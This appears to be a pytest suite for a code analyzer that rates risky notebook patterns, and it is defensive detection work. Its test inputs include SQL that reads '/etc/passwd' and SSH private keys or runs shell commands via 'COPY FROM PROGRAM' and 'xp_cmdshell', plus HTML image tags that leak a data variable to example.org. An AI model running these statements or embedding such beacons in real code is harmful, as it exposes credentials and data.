"""Code inside texts: written files, outputs, SQL statements."""

from __future__ import annotations

import pytest

from tests.analysis.helpers import analyze, codes, found


def test_the_body_of_a_file_is_read_a_level_lower():
    result = analyze("%%writefile helpers.py\nimport os\nos.system('x')\n")
    finding = next(f for f in result.findings if f.code == "TJ101")
    assert (finding.level, finding.span.line, finding.text) == ("high", 3, "os.system")
    assert finding.reason.startswith("In the written file: ")
    assert {f.code for f in analyze("%%writefile notes.txt\nimport os\nos.system('x')").findings} == {"TJ104"}


@pytest.mark.parametrize(
    "code",
    [
        "from pathlib import Path\nPath('a.py').write_text('import os\\nos.system(1)')",
        "with open('a.py', 'w') as f:\n    f.write('import subprocess\\nsubprocess.run(1)')",
        "text = 'exec(input())'\nopen('a.py', 'w').write(text)",
    ],
)
def test_code_that_is_written(code):
    assert ("TJ112", "high") in found(code)


def test_other_text_that_is_written():
    assert found("open('a.txt', 'w').write('import data from the export folder')") == set()
    assert found("open('a.py', 'w').write('import json\\nprint(json.dumps(1))')") == set()


SHOWN = {
    "high": ["HTML('<script>x</script>')", "HTML('<img src=x onerror=alert(1)>')",
             "display({'application/javascript': 'x'}, raw=True)",
             "HTML(f'<img src=\"https://example.org/x.png?d={data}\">')", "HTML(f'<img src=\"//{data}.example.org/x.png\">')",
             "Markdown('![x](https://example.org/?d=' + data + ')')", "Image(url='https://example.org/?{}'.format(data))",
             "HTML('<img src=https://example.org/?d=DATA>'.replace('DATA', data))",
             "class A:\n    def _repr_html_(self):\n        return f'<img src=https://example.org/?d={self.data}>'",
             "import requests\nr = requests.get(url)\nHTML(r.text)", "HTML(response.text)", "HTML(response.content.decode())",
             "import httpx\ndisplay(HTML(httpx.get(url).text))"],
    "medium": ["HTML(f'<img src=\"https://example.org/{name}.png\">')", "HTML('<img src=\"https://example.org/?d=1\">')",
             "Markdown('![x](https://example.org/x.png)')",
               "Image(url='https://example.org/x.png')"],
}  # fmt: skip


@pytest.mark.parametrize(
    ("level", "code"), [(level, code) for level, codes in SHOWN.items() for code in codes]
)
def test_external_content_in_an_output_is_reported(level, code):
    assert ("TJ304", level) in found(f"from IPython.display import *\n{code}")


def test_outputs_that_load_nothing():
    quiet = "HTML(df.to_html()); HTML(x.text); HTML(f'<img src=\"{p}.png?v={v}\">'); HTML('<b>x</b>'); HTML('<a href=\"https://example.org\">x</a>'); Markdown('# x'); Image('x.png')"
    assert "TJ304" not in codes(f"from IPython.display import *\n{quiet}")
    assert "TJ304" in codes("%%html\n<script>x</script>")
    assert "TJ304" not in codes("%%html\n<b>x</b>")


SQL = {
    "high": [
        "SELECT * FROM read_text('/etc/passwd')",
        "COPY t TO '/home/x/out.csv'",
        "ATTACH '/home/x.db' AS x",
    ],
    "critical": [
        "COPY t FROM PROGRAM 'id'",
        "CREATE FUNCTION f() RETURNS int AS 'x.so' LANGUAGE C",
        "EXEC xp_cmdshell 'dir'",
        "SELECT load_extension('./x')",
    ],
    "medium": ["SELECT * FROM 'https://example.org/x.parquet'"],
}


@pytest.mark.parametrize(("level", "text"), [(level, text) for level, texts in SQL.items() for text in texts])
def test_statements_that_reach_out(level, text):
    assert ("TJ207", level) in found(f'c.execute("{text}")')


def test_statements_inside():
    assert found("c.execute(\"SELECT * FROM read_csv('data.csv')\")") == set()
    assert found("import sqlite3\nc = sqlite3.connect(':memory:')\nc.execute('DROP TABLE x')") == set()
    assert ("TJ206", "medium") in found(
        "import sqlite3\nc = sqlite3.connect('a.db')\nc.execute('DROP TABLE x')"
    )


def test_comments_hide_no_statement():
    for text in (
        "/* x */ DROP TABLE x",
        "-- x\\nDROP TABLE x",
        "select 1; /* a; */ drop table x",
        "/*! drop table x */",
    ):
        assert ("TJ206", "high") in found(f"c.execute('{text}')")
    assert found("c.execute('-- drop table x\\nselect 1')") == set()
    assert ("TJ207", "high") in found("c.execute(\"select * from read_text('/home/*/.ssh/id_*')\")")


def test_a_table_that_the_code_made_itself_is_less():
    made = "c.execute('CREATE TABLE IF NOT EXISTS mine (a)')\n"
    assert ("TJ206", "medium") in found(made + "c.execute('DROP TABLE IF EXISTS mine;')")
    assert ("TJ206", "high") in found(made + "c.execute('DROP TABLE others')")
    assert ("TJ206", "medium") in found(
        "c.execute('create temp table a as select 1')\nc.execute('drop table A')"
    )
    assert ("TJ206", "high") in found(made + "c.execute('DROP TABLE others; DROP TABLE mine')")


def test_loading_a_model_that_may_run_code_is_high():
    assert ("TJ111", "high") in found("AutoModel.from_pretrained('a/b', trust_remote_code=True)")
    assert ("TJ111", "high") in found("keras.models.load_model('x', safe_mode=False)")
    assert found("AutoModel.from_pretrained('a/b', trust_remote_code=False)") == set()


@pytest.mark.parametrize("character", ["\u202e", "\u2066", "\U000e0041"])
def test_text_that_is_shown_otherwise(character):
    finding = next(f for f in analyze(f"x = 1\n# {character} y").findings if f.code == "TJ408")
    assert (finding.level, finding.span.line) == ("high", 2)
    assert f"U+{ord(character):04X}" in finding.reason


def test_other_alphabets():
    assert found("x = '\u05d0\u0628 \u200f \u65e5\u672c' # \u0416") == set()
